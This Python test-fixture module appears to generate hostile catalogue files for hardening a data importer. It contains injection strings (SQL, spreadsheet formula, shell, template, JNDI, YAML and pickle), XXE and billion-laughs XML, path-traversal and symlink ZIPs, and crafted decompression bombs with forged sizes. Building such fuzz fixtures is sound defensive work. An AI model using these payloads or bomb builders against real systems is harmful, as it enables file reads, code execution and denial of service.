"""Catalogues that an attacker would send: tables, workbooks, JSON, XML, Parquet, ZIP, SQLite, taxonomies."""

# ruff: noqa: E501 - what is hostile is often long
from __future__ import annotations

import gzip
import io
import json
import random
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from tempfile import TemporaryDirectory

OWNED = "owned-by-a-stranger"
TEXTS = [
    "'; DROP TABLE product; --", '" OR 1=1 --', "<b>bold</b><img src=file:///etc/passwd>",
    "<a href='javascript:x()'>x</a>", f"=cmd|'/c touch {OWNED}'!A1", f'=HYPERLINK("http://x/{OWNED}","x")',
    f"@SUM(1+1)*cmd|' /C touch {OWNED}'!A0", f"$(touch {OWNED})", f"`touch {OWNED}`", f"; touch {OWNED} #",
    f"{{{{ cycler.__init__.__globals__.os.popen('touch {OWNED}') }}}}", "${jndi:ldap://x/a}",
    "\x1b]0;owned\x07\x1b[2J\x1b[31m", "\x1b]52;c;b3duZWQ=\x07", "\x9b31m", "a\u202egpj.exe",
    "\u2066\u2067\u202d\u202e" * 50, "\u200b\u200d\ufeff" * 100, "e" + "\u0301" * 5000, "\ud83d", "\x00\x01\x02",
    "../../../../etc/passwd", "..\\..\\..\\windows\\system32\\x", "/etc/passwd", "C:\\x", "\\\\host\\share\\x",
    "file:///etc/passwd", "CON", "aux.txt", "%s%s%s%n", "{0.__class__}", "{:>99999999}", "A" * 2_000_000,
    "\n" * 20_000, "|" * 10_000, "﷽" * 20_000, "NaN", "-Infinity", "1e999999", "9" * 5000, "__proto__",
    "!!python/object/apply:os.system ['touch owned']", "cos\nsystem\n(S'touch owned'\ntR.", "NULL", "\r\n\r\n<x>",
]  # fmt: skip


def hostile_catalogues() -> Iterator[tuple[str, bytes]]:
    """(file name, content)"""
    yield from _tables()
    yield from _json()
    yield from _xml()
    yield from _zips()
    yield from _workbooks()
    yield from _others()


def _tables() -> Iterator[tuple[str, bytes]]:
    for number, text in enumerate(TEXTS):
        quoted = text.replace('"', '""')
        content = (
            f'key,name,description,category,picture\nk{number},"{quoted}","{quoted}","{quoted}","{quoted}"\n'
        )
        yield f"text-{number}.csv", content.encode("utf-8", "surrogatepass")
    rows = ["key,name,category"] + [f"{n},{t!r},{t!r}" for n, t in enumerate(TEXTS[:20])]
    yield (
        "header-of-texts.csv",
        (",".join(f'"{t[:50]}"' for t in TEXTS[:30]) + "\n").encode("utf-8", "replace"),
    )
    yield "one-quote.csv", b'key,name\n1,"' + b"x" * 3_000_000
    yield "quotes.csv", b'"' * 3_000_001
    yield "commas.csv", b"," * 2_000_000
    yield "columns.csv", b",".join(b"c%d" % n for n in range(50_000)) + b"\n1\n"
    yield (
        "deep-category.csv",
        b"key,name,category\n1,x," + b" > ".join(b"c%d" % n for n in range(20_000)) + b"\n",
    )
    yield (
        "many-categories.csv",
        b"key,name,category\n" + b"".join(b"%d,x,c%d\n" % (n, n) for n in range(20_000)),
    )
    yield "same-key.csv", b"key,name\n" + b"1,x\n" * 50_000
    yield "utf16.csv", "\n".join(rows).encode("utf-16")
    yield "utf7.csv", "\n".join(rows).encode("utf-7", "replace")
    yield "bytes.csv", random.Random(1).randbytes(200_000)
    yield "bytes.tsv", random.Random(2).randbytes(200_000)
    yield "zeros.csv", bytes(1_000_000)
    yield "ff.csv", b"\xff" * 1_000_000
    yield "bom.csv", b"\xef\xbb\xbf\xff\xfe" + b"key,name\n1,2\n"
    yield (
        "flipkart-specification.csv",
        (
            b"uniq_id,product_name,product_category_tree,product_specifications,image\n"
            b'1,x,"[""a >> b""]","{""product_specification""=>[' + b"{" * 50_000 + b'","x"\n'
        ),
    )


def _json() -> Iterator[tuple[str, bytes]]:
    yield "deep.json", b"[" * 500_000
    yield "deep-object.json", b'{"a":' * 300_000
    yield "deep-value.jsonl", b'{"key": "1", "name": ' + b"[" * 200_000 + b"]" * 200_000 + b"}\n"
    yield "number.json", b'[{"key": 1, "name": ' + b"9" * 200_000 + b"}]"
    yield "exponent.json", b'[{"key": 1e400, "name": -1e-400, "price": 1e99999999999}]'
    yield "same-names.json", b'[{"key": "1",' + b'"name": "x",' * 100_000 + b'"name": "y"}]'
    yield "surrogates.json", b'[{"key": "\\ud800", "name": "\\udfff\\ud800", "category": "\\u0000"}]'
    yield "proto.json", b'[{"__proto__": {"a": 1}, "constructor": {"x": 1}, "key": "1", "name": "x"}]'
    yield "escape.json", b'[{"key": "1", "name": "\\x"}]'
    yield "unfinished.json", b'[{"key": "1", "name": "x'
    yield "many.json", b"[" + b"{}," * 300_000 + b"{}]"
    yield "nan.json", b'[{"key": NaN, "name": Infinity}]'
    for number, text in enumerate(TEXTS[:24]):
        one = {"id": text, "title": text, "category": [text, {"a": text}], "image": text, text: text}
        yield f"text-{number}.json", json.dumps([one]).encode()
    coco = {
        "images": [{"id": 1, "file_name": "../../../etc/passwd"}],
        "annotations": [{"image_id": 1, "category_id": 1}],
    }
    yield "coco-outside.json", json.dumps(coco | {"categories": [{"id": 1, "name": "x"}]}).encode()
    tasks = [
        {
            "id": 1,
            "data": {"image": "/data/local-files/?d=../../etc/passwd", "text": "x"},
            "annotations": "no",
        }
    ]
    yield "label-studio-outside.json", json.dumps(tasks).encode()


def _xml() -> Iterator[tuple[str, bytes]]:
    feed = b'<?xml version="1.0"?>%s<rss xmlns:g="http://base.google.com/ns/1.0"><channel>%s</channel></rss>'
    item = b"<item><g:id>1</g:id><title>%s</title></item>"
    laughs = b'<!DOCTYPE r [<!ENTITY a "ha">' + b"".join(
        b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)
    )
    yield "laughs.xml", feed % (laughs + b"]>", item % b"&j;")
    outside = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    yield "outside.xml", feed % (outside, item % b"&x;")
    yield "network.xml", feed % (b'<!DOCTYPE r SYSTEM "http://127.0.0.1:9/x.dtd">', item % b"x")
    yield (
        "parameter.xml",
        feed % (b'<!DOCTYPE r [<!ENTITY % x SYSTEM "http://127.0.0.1:9/">%x;]>', item % b"x"),
    )
    yield "deep.xml", b"<rss><channel>" + b"<a>" * 300_000
    yield "attributes.xml", b"<rss " + b" ".join(b'a%d="x"' % n for n in range(100_000)) + b"/>"
    yield "large-text.xml", feed % (b"", item % (b"x" * 5_000_000))
    yield "many-items.xml", feed % (b"", item % b"x" * 20_000)
    yield "encoding.xml", b'<?xml version="1.0" encoding="utf-7"?><rss/>'
    yield (
        "include.xml",
        feed % (b"", b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
    )


def archive(members: dict[str, bytes]) -> bytes:
    """A ZIP file of these members."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return buffer.getvalue()


def _packed_again_and_again(content: bytes, times: int) -> bytes:
    """Gigabytes in a moment: members of a gzip file are read as one text, one after the other."""
    return gzip.compress(content, 9) * times


def great_bomb(members: dict[str, bytes], name: str, begin: bytes, content: bytes, times: int) -> bytes:
    """A ZIP file of `members` and of `name`, which is `begin` and then so many times `content`.

    What is packed between two full flushes can be repeated, so that gigabytes need not be packed.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(begin) + packer.flush(zlib.Z_FULL_FLUSH)
    part = packer.compress(content) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = head + part * times + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    size = len(begin) + len(content) * times
    placeholder = b"\xa5" * len(packed)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for other, held in members.items():
            file.writestr(other, held)
        file.writestr(zipfile.ZipInfo(name), placeholder)
    whole = buffer.getvalue().replace(placeholder, packed)
    # Method, checksum (which is wrong, and looked at only in the end), both sizes: in the entry and the index.
    stored = struct.pack("<HIII", 0, 0, 0, 0)[:2]
    for signature, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = -1
        while (start := whole.find(signature, start + 1)) >= 0:
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if (
                whole[name_at : name_at + len(name)] == name.encode()
                and whole[start + at : start + at + 2] == stored
            ):
                entry = struct.pack("<I", len(packed)) + struct.pack("<I", size)
                whole = (
                    whole[: start + at] + struct.pack("<H", zipfile.ZIP_DEFLATED) + whole[start + at + 2 : start + at + 10]
                    + entry + whole[start + at + 18 :]
                )  # fmt: skip
    return whole


def _zips() -> Iterator[tuple[str, bytes]]:
    table = b"key,name\n1,x\n"
    places = (
        f"../{OWNED}.csv", f"../../../../../../tmp/{OWNED}.csv", f"/tmp/{OWNED}.csv", f"..\\{OWNED}.csv",
        f"C:\\{OWNED}.csv", f"a/../../{OWNED}.csv", "a\0b.csv", "con.csv", "." * 300 + ".csv", f"./{'x/' * 500}a.csv",
    )  # fmt: skip
    for number, name in enumerate(places):
        yield f"outside-{number}.zip", archive({name: table})
    yield "bomb.zip", archive({"a.csv": bytes(64 * 2**20)})
    yield "great-bomb.zip", great_bomb({}, "a.csv", b"key,name\n", b"1,x\n" * 2**16, 16_000)
    yield "great-line-bomb.zip", great_bomb({}, "a.json", b'[{"key": "', b"x" * 2**18, 16_000)
    inner = archive({"a.csv": bytes(16 * 2**20)})
    yield "nested-bomb.zip", archive({f"{n}.zip": inner for n in range(50)})
    yield "many.zip", archive({f"{n}.csv": b"" for n in range(500)})
    link = zipfile.ZipInfo("link.csv")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr(link, "/etc/passwd")
    yield "link.zip", buffer.getvalue()
    plain = archive({"a.csv": table})
    yield "cut.zip", plain[:-10]
    yield "lies.zip", plain.replace(struct.pack("<I", len(table)), struct.pack("<I", 2**31), 2)
    yield "comment.zip", plain + b"x" * 70_000
    dice = random.Random(3)
    for number in range(12):
        changed = bytearray(plain)
        for _ in range(3):
            changed[dice.randrange(len(changed))] = dice.randrange(256)
        yield f"flipped-{number}.zip", bytes(changed)


def _workbooks() -> Iterator[tuple[str, bytes]]:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["key", "name", "category"])
    book.active.append(["1", f"=cmd|'/c touch {OWNED}'!A1", "x"])
    buffer = io.BytesIO()
    book.save(buffer)
    content = buffer.getvalue()
    yield "formula.xlsx", content
    members = {
        m.filename: zipfile.ZipFile(io.BytesIO(content)).read(m)
        for m in zipfile.ZipFile(io.BytesIO(content)).infolist()
    }
    sheet = "xl/worksheets/sheet1.xml"
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    changes = {
        "entities": members[sheet].replace(b"<worksheet", laughs + b"<worksheet", 1),
        "bomb": members[sheet] + b" " * (64 * 2**20),
        "cut": members[sheet][: len(members[sheet]) // 2],
        "empty": b"",
        "far": members[sheet].replace(b'r="A2"', b'r="XFD1048576"'),
        "farther": members[sheet].replace(b'r="A2"', b'r="ZZZZZZ99999999999"'),
        "shared": members[sheet].replace(b'r="A2"', b'r="A2" t="s"'),
    }
    for name, changed in changes.items():
        yield f"sheet-{name}.xlsx", archive(members | {sheet: changed})
    others = {name: held for name, held in members.items() if name != sheet}
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    begin = members[sheet].partition(b"<sheetData>")[0] + b"<sheetData>"
    yield "sheet-great-bomb.xlsx", great_bomb(others, sheet, begin, row * 2**12, 12_800)
    shared = "xl/sharedStrings.xml"
    if shared in members:
        kept = {name: held for name, held in members.items() if name != shared}
        begin = members[shared].partition(b"<si>")[0]
        yield "strings-great-bomb.xlsx", great_bomb(kept, shared, begin, b"<si><t>x</t></si>" * 2**13, 12_800)
    yield "outside.xlsx", archive(members | {f"../{OWNED}.xml": b"x"})
    relations = "xl/_rels/workbook.xml.rels"
    outside = members[relations].replace(b"/xl/worksheets/sheet1.xml", b"../../../../etc/passwd")
    yield "relation.xlsx", archive(members | {relations: outside})
    dice = random.Random(4)
    for number in range(10):
        changed_bytes = bytearray(content)
        for _ in range(20):
            changed_bytes[dice.randrange(len(changed_bytes))] = dice.randrange(256)
        yield f"flipped-{number}.xlsx", bytes(changed_bytes)


def _others() -> Iterator[tuple[str, bytes]]:
    import pyarrow as pa
    import pyarrow.parquet as pq

    buffer = io.BytesIO()
    pq.write_table(pa.table({"key": ["1", "2"], "name": TEXTS[:2], "category": ["a", "b"]}), buffer)
    content, dice = buffer.getvalue(), random.Random(6)
    for number in range(16):
        changed = bytearray(content)
        for _ in range(dice.choice((1, 4, 20))):
            changed[dice.randrange(len(changed))] = dice.randrange(256)
        yield f"flipped-{number}.parquet", bytes(changed)
    yield "cut.parquet", content[: len(content) // 2]
    yield "footer.parquet", content[:-8] + struct.pack("<I", 2**31 - 1) + b"PAR1"
    buffer = io.BytesIO()
    pq.write_table(pa.table({"key": ["x" * 1000] * 300_000, "name": ["y"] * 300_000}), buffer)
    yield "swollen.parquet", buffer.getvalue()
    yield "openfoodfacts-products.jsonl.gz", _packed_again_and_again(bytes(2**20), 4096)
    yield (
        "openfoodfacts-lines.jsonl.gz",
        _packed_again_and_again((b'{"code": "1", "product_name": "%s"}\n' % (b"x" * 9_000)) * 100, 4096),
    )
    dump = b"code\tproduct_name\n" + b"1\t%s\n" % (b"x" * 2**20)
    yield "en.openfoodfacts.org.products.csv.gz", _packed_again_and_again(dump, 4096)
    for name, statements in _DATABASES.items():
        yield f"{name}.sqlite", _database(statements)
    for number, text in enumerate(TEXTS[:10]):
        yield f"taxonomy-{number}.txt", f"1 - {text} > {text}\n{text}\n".encode("utf-8", "replace")
    yield (
        "taxonomy-loop.json",
        json.dumps(
            {f"en:{n}": {"parents": [f"en:{(n + 1) % 500}"], "name": {"en": "x"}} for n in range(500)}
        ).encode(),
    )
    yield "vectors-claim.txt", b"99999999999 4096\nword 1 2 3\n"
    yield "vectors-line.txt", b"2 3\n" + b"x" * 5_000_000
    yield "vectors-nan.txt", b"2 3\na nan inf 1e999\nb 1 2 3\n"
    yield "vectors-binary.txt", b"1000000 300\n" + random.Random(8).randbytes(100_000)
    yield "vectors-bomb.gz", gzip.compress(b"2 3\n" + bytes(64 * 2**20), 1)


_DATABASES = {
    "view": ["CREATE VIEW product AS SELECT 1 AS key, load_extension('x') AS name"],
    "endless": [
        "CREATE VIEW product AS WITH RECURSIVE c(key) AS (SELECT 1 UNION ALL SELECT key + 1 FROM c) "
        "SELECT key, 'x' AS name FROM c"
    ],
    "virtual": ["CREATE VIRTUAL TABLE product USING fts5(key, name)"],
    "generated": ["CREATE TABLE product (key TEXT, name TEXT AS (zeroblob(999999999)))", "INSERT INTO product (key) VALUES (1)"],
    "blobs": ["CREATE TABLE product (key, name)", "INSERT INTO product VALUES (zeroblob(50000000), zeroblob(50000000))"],
    "name": ['CREATE TABLE "product""; DROP TABLE x; --" (key, name)'],
}  # fmt: skip


def _database(statements: list[str]) -> bytes:
    with TemporaryDirectory() as folder:
        path = Path(folder) / "x.sqlite"
        with closing(sqlite3.connect(path)) as connection:
            for statement in statements:
                connection.execute(statement)
            connection.commit()
        return path.read_bytes()
